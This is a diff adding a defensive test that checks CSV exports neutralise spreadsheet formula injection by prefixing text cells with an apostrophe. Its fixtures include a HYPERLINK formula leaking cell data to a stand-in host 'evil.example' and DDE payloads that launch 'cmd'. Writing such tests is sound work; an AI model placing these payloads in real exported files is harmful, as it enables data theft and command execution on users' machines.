@@ -537,6 +537,57 @@ describe('export formatting', () => {
     for (const [index, line] of fromDatabase.split('\r\n').entries()) expect(line, `line ${index}`).toBe(serverLines[index]);
     expect(fromDatabase).toBe(fromServer);
   }, 60_000);
+
+  // OWASP CSV injection: a text cell a spreadsheet would run as a formula comes back with a ' in front (and quoted),
+  // from the route and from both formatters; numbers, negative ones included, and texts that are plain numbers stay.
+  it('neutralises formulas in every text cell, never in numbers', async () => {
+    const Papa = (await import('papaparse')).default;
+    const { targetExportCsv } = await import('../../src-server/features/projects/export');
+    const { targetExportBodySchema } = await import('@shared/contract/projects');
+    const { db } = server.database;
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
+    const client = "+cmd|'/C calc'!A0";
+    await db.execute(sql`INSERT INTO projects (name, client_name, key_account_id, actor, action_code, status)
+      VALUES (${name}, ${client}, ${csmId}, 'Laboratoire', 'HOSTILE-1.', 'active')`);
+    const [{ id }] = ((await db.execute(sql`SELECT id FROM projects WHERE name = ${name}`)) as unknown as { rows: { id: number }[] }).rows;
+    const hostile = { actionCode: '@SUM(1+1)*cmd|\'/C calc\'!A0', category: '\t=1+1', sample: '-2+3', actor: '\r=1+1' };
+    await db.execute(sql`INSERT INTO targets (project_id, position, action_code, status, status_rank, type, advert_id, population_category, population_sample,
+        population_size, goal_views, goal_days, goal_shipments, revenue, revenue_delay_impact, actor, key_account_id)
+      VALUES (${id}, 0, ${hostile.actionCode}, '2. en ligne', 1, 'post', 7, ${hostile.category}, ${hostile.sample}, -5, 0, 0, 0, -1234.5, -7.25, ${hostile.actor}, ${csmId}),
+        (${id}, 1, '-5', '2. en ligne', 1, 'post', NULL, '+3', '-1,5', 12, 0, 0, 0, 10, NULL, 'Plain', ${csmId})`);
+    const body = targetExportBodySchema.parse({ filters: { projectName: [name], status: [] }, orderBy: 'id', order: 'ASC' });
+    const viaRoute = await server.request('POST', '/targets/export', { token: csm, body });
+    expect(viaRoute.status).toBe(200);
+    const csv = async (formatting: 'database' | 'server') => {
+      const chunks: Buffer[] = [];
+      for await (const chunk of targetExportCsv(db, body, formatting)) chunks.push(chunk);
+      return Buffer.concat(chunks).toString('utf8');
+    };
+    const files = { route: viaRoute.body as string, database: await csv('database'), server: await csv('server') };
+    for (const [how, file] of Object.entries(files)) {
+      const [header, ...rows] = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;
+      const cells = rows.map((row) => Object.fromEntries(header.map((column, index) => [column, row[index]])));
+      expect(cells, how).toHaveLength(2);
+      expect(cells[0], how).toMatchObject({
+        projectName: `'${name}`,
+        clientName: `'${client}`,
+        actionCode: `'${hostile.actionCode}`,
+        populationCategory: `'${hostile.category}`,
+        populationSample: `'${hostile.sample}`,
+        actor: `'${hostile.actor}`,
+        advertId: '7',
+        populationSize: '-5',
+        revenue: '-1234.50',
+        revenueDelayImpact: '-7.25',
+      });
+      expect(cells[1], how).toMatchObject({ projectName: `'${name}`, actionCode: '-5', populationCategory: '+3', populationSample: '-1,5', populationSize: '12', actor: 'Plain' });
+      // Written as papaparse writes an escaped cell: quoted.
+      expect(file, how).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";"'+cmd|'/C calc'!A0";7;/adverts/edit/7;"'@SUM(1+1)`);
+      expect(file, how).toContain(`;"'-2+3";-5;`);
+      expect(file, how).toContain(`;-1234.50;-7.25\r\n`);
+    }
+    expect(files.database).toBe(files.server);
+  }, 60_000);
 });
 
 describe('demo workspace', () => {
